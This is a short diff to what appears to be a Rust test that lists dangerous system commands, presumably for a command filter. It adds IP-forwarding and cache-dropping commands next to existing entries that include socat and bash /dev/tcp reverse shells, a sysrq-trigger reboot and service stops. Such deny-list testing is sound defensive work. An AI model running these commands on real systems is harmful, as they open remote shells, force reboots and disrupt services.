@@ -193,6 +193,8 @@ fn the_system_its_services_and_processes() {
             "socat TCP:h:1 EXEC:/bin/sh",
             "bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
             "echo b > /proc/sysrq-trigger",
+            "echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward",
+            "echo 3 > /proc/sys/vm/drop_caches",
             "supervisorctl stop x",
             "/etc/init.d/nginx stop",
         ],
